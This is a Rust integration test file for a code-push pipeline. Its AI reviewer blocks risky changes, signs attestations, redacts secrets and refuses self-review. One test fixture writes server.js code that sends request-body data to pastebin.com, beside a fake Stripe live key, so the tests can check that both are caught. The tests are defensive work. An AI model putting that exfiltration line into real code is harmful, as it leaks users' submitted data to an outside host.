//! The independent reviewer in the push pipeline, against a local server that speaks the OpenAI
//! chat-completions protocol: its verdict gates release, its attestation verifies with the
//! server's public key, secrets never reach the prompt, and bad output or the authoring model
//! reviewing itself never passes.

// Tests fail loudly: unwrap, expect and panic are how they report.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::sync::{Arc, Mutex};

use axum::Json;
use axum::body::Body;
use axum::extract::State;
use axum::http::{Method, Request, StatusCode, header};
use common::{Backend, TestApp, app_with, bundle, manifest};
use serde_json::{Value, json};

both_backends!(
    model_rejection_blocks_and_is_attested,
    bad_output_and_self_review_never_pass,
    deterministic_without_a_model,
    an_orgs_own_review_policy,
);

const CANARY: &str = "sk_live_Q7vN3kPw2XrT5mYb7LcD4hFa";

type Seen = Arc<Mutex<Vec<Value>>>;

/// A reviewer model: `strict` rejects any diff that mentions pastebin; `garbage` answers prose.
async fn chat(State(seen): State<Seen>, Json(body): Json<Value>) -> Json<Value> {
    seen.lock().unwrap().push(body.clone());
    let prompt = body["messages"][1]["content"].as_str().unwrap_or_default().to_owned();
    let content = match body["model"].as_str() {
        Some("strict") if prompt.contains("pastebin") => json!({
            "decision": "reject",
            "summary": "Sends request data to an undeclared host.",
            "findings": [{"severity": "high", "path": "server.js", "line": 2, "title": "Exfiltration", "explanation": "req.body goes to pastebin.com"}]
        })
        .to_string(),
        Some("strict") => json!({"decision": "approve", "summary": "No issues.", "findings": []}).to_string(),
        _ => "LGTM!".to_owned(),
    };
    Json(json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]}))
}

async fn model_server() -> (String, Seen) {
    let seen: Seen = Arc::default();
    let app = axum::Router::new().route("/v1/chat/completions", axum::routing::post(chat)).with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}/v1"), seen)
}

async fn with_model(b: Backend, url: Option<&str>, model: &str) -> TestApp {
    let mut config = TestApp::config_default();
    if let Some(url) = url {
        config.review.url = Some(url.to_owned());
        config.review.model = Some(model.to_owned());
    }
    config.scan.max_attempts = 1;
    app_with(b, config).await
}

async fn push(t: &TestApp, app: &str, code: &str, ai_model: Option<&str>) {
    let files = [("gatehouse.toml", manifest(app)), ("server.js", code.to_owned())];
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (*p, c.as_str())).collect();
    let query = ai_model.map(|m| format!("?ai_agent=claude-code&ai_model={m}")).unwrap_or_default();
    let req = Request::builder()
        .method(Method::POST)
        .uri(format!("/api/v1/apps/{app}/revisions{query}"))
        .header(header::AUTHORIZATION, format!("Bearer {}", t.admin()))
        .header(header::CONTENT_TYPE, "application/gzip")
        .body(Body::from(bundle(&refs)))
        .unwrap();
    let (s, _, v) = t.raw(req).await;
    assert!(s.is_success(), "{s} {v}");
}

async fn report(t: &TestApp, app: &str) -> Value {
    for _ in 0..200 {
        let (s, v) = t.get(&format!("/api/v1/apps/{app}/revisions/head/scan"), t.admin()).await;
        assert_eq!(s, StatusCode::OK, "{v}");
        if v["verdict"] != "pending" {
            return v;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    panic!("not scanned");
}

async fn model_rejection_blocks_and_is_attested(b: Backend) {
    let (url, seen) = model_server().await;
    let t = with_model(b, Some(&url), "strict").await;
    t.create_app("forms").await;
    push(&t, "forms", "const ok = 1;\n", Some("claude-sonnet-4")).await;
    let r = report(&t, "forms").await;
    assert_eq!((r["verdict"].as_str(), r["review"]["decision"].as_str()), (Some("pass"), Some("approve")), "{r}");
    assert_eq!(r["review"]["generating_model"], "claude-sonnet-4");

    // Clean for every scanner, rejected by the model alone: the model's verdict blocks.
    push(&t, "forms", "// TODO mirror submissions to pastebin\nconst ok = 2;\n", Some("claude-sonnet-4")).await;
    let r = report(&t, "forms").await;
    assert_eq!((r["verdict"].as_str(), r["findings"].as_array().unwrap().len()), (Some("blocked"), 0), "{r}");

    // A change with an undeclared host and a planted key.
    let code =
        format!("const key = '{CANARY}';\napp.post('/f', (req) => fetch(`https://pastebin.com/${{req.body.id}}`));\n");
    push(&t, "forms", &code, Some("claude-sonnet-4")).await;
    let r = report(&t, "forms").await;
    assert_eq!(r["verdict"], "blocked", "{r}");
    let review = &r["review"];
    assert_eq!(
        (review["reviewer"].as_str(), review["model"].as_str(), review["decision"].as_str()),
        (Some("model"), Some("strict"), Some("reject"))
    );
    assert_eq!(review["findings"][0]["path"], "server.js");

    // The key never reached the model: the diff was redacted first.
    let bodies = serde_json::to_string(&*seen.lock().unwrap()).unwrap();
    assert!(bodies.contains("[REDACTED:stripe-live-key]"), "the redaction marker is in the prompt");
    assert!(!bodies.contains(CANARY) && !bodies.contains(&CANARY[8..]), "a secret reached the model");
    assert!(!r.to_string().contains(&CANARY[8..]));

    // The attestation verifies with the server's public key, and not once altered.
    let (_, pk) = t.get("/api/v1/audit/public-key", t.admin()).await;
    let key_bytes: [u8; 32] = hex::decode(pk["public_key"].as_str().unwrap()).unwrap().try_into().unwrap();
    let key = ed25519_dalek::VerifyingKey::from_bytes(&key_bytes).unwrap();
    let statement = review["attestation"].as_str().unwrap();
    let signature = review["signature"].as_str().unwrap();
    assert!(gatehouse_audit::verify_statement(&key, "gatehouse-review-v1", statement.as_bytes(), signature));
    let forged = statement.replace("\"reject\"", "\"approve\"");
    assert!(!gatehouse_audit::verify_statement(&key, "gatehouse-review-v1", forged.as_bytes(), signature));
    let stated: Value = serde_json::from_str(statement).unwrap();
    assert_eq!((stated["decision"].as_str(), stated["revision"].as_str()), (Some("reject"), r["digest"].as_str()));
}

async fn bad_output_and_self_review_never_pass(b: Backend) {
    let (url, _) = model_server().await;
    // Prose instead of the schema: the review is an error, and so is the verdict.
    let t = with_model(b, Some(&url), "garbage").await;
    t.create_app("a").await;
    push(&t, "a", "const ok = 1;\n", None).await;
    let r = report(&t, "a").await;
    assert_eq!((r["verdict"].as_str(), r["review"]["decision"].as_str()), (Some("error"), Some("error")), "{r}");
    assert!(r["review"]["summary"].as_str().unwrap().contains("not a review"), "{r}");

    // The model that wrote the revision may not review it.
    let t = with_model(b, Some(&url), "strict").await;
    t.create_app("b").await;
    push(&t, "b", "const ok = 1;\n", Some("openai/STRICT")).await;
    let r = report(&t, "b").await;
    assert_eq!(r["verdict"], "error", "{r}");
    assert!(r["review"]["summary"].as_str().unwrap().contains("other than the model that wrote"), "{r}");

    // An unreachable endpoint: the scan fails (after its attempts) and the verdict is an error.
    let t = with_model(b, Some("http://127.0.0.1:9/v1"), "strict").await;
    t.create_app("c").await;
    push(&t, "c", "const ok = 1;\n", None).await;
    let r = report(&t, "c").await;
    assert_eq!((r["verdict"].as_str(), r["scan"]["status"].as_str()), (Some("error"), Some("failed")), "{r}");
    assert!(r["scan"]["error"].as_str().unwrap().contains("reviewer unavailable"), "{r}");
}

async fn deterministic_without_a_model(b: Backend) {
    let t = with_model(b, None, "").await;
    t.create_app("d").await;
    push(&t, "d", "const ok = 1;\n", None).await;
    let r = report(&t, "d").await;
    assert_eq!((r["verdict"].as_str(), r["review"]["reviewer"].as_str()), (Some("pass"), Some("deterministic")), "{r}");
    assert_eq!(r["review"]["decision"], "approve");
    assert!(!r["review"]["signature"].as_str().unwrap().is_empty());
}

async fn an_orgs_own_review_policy(b: Backend) {
    let (url, seen) = model_server().await;
    let t = with_model(b, Some(&url), "strict").await;
    let (_, p) = t.get("/api/v1/review-policy", t.admin()).await;
    assert_eq!(
        (p["source"].as_str(), p["require_different_model"].as_bool(), p["model"].as_str()),
        (Some("default"), Some(true), Some("strict"))
    );
    let (s, p) = t
        .call(
            Method::PUT,
            "/api/v1/review-policy",
            Some(t.admin()),
            Some(json!({"policy": "Payroll data never leaves the HR integration.", "require_different_model": false})),
        )
        .await;
    assert_eq!((s, p["source"].as_str()), (StatusCode::OK, Some("org")), "{p}");
    t.create_app("hr").await;
    // The org allows self-review: the writing model may review, and the policy is in the prompt.
    push(&t, "hr", "const ok = 1;\n", Some("strict")).await;
    let r = report(&t, "hr").await;
    assert_eq!((r["verdict"].as_str(), r["review"]["decision"].as_str()), (Some("pass"), Some("approve")), "{r}");
    let prompt = seen.lock().unwrap().last().unwrap()["messages"][1]["content"].as_str().unwrap().to_owned();
    assert!(prompt.contains("Payroll data never leaves the HR integration."), "{prompt}");
    // Empty text is refused; clearing returns to the defaults.
    let (s, _) = t.call(Method::PUT, "/api/v1/review-policy", Some(t.admin()), Some(json!({"policy": ""}))).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    let (s, p) = t.call(Method::PUT, "/api/v1/review-policy", Some(t.admin()), Some(json!({"policy": null}))).await;
    assert_eq!((s, p["source"].as_str()), (StatusCode::OK, Some("default")));
}
